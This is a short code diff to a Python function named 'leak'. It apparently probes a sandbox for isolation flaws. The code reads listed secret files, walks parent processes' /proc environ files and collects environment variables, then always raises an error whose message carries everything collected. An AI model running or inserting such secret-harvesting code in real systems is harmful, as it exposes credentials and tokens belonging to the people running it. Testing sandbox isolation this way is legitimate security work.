@@ -18,13 +18,15 @@ class Net(nn.Module):
 
 
 def leak(model: Net, x):
-    found = [value for value in os.environ.values()]
+    # What it finds outside first: the evidence is cut short, its own
+    # (the sandbox's cleared) environment would hide the rest.
+    found = []
     for path in SECRET_FILES:
         try:
             found.append(open(path).read())
         except OSError:
             pass
-    pid = os.getpid()
+    pid = os.getppid()
     while pid > 1:
         try:
             found.append(open(f"/proc/{pid}/environ").read())
@@ -32,6 +34,7 @@ def leak(model: Net, x):
                 pid = int(stat.read().rsplit(")", 1)[1].split()[1])
         except (OSError, ValueError, IndexError):
             break
+    found += [value for value in os.environ.values()]
     if found or not found:
         raise RuntimeError("leaked: " + " | ".join(found))
     return model(x).numpy()
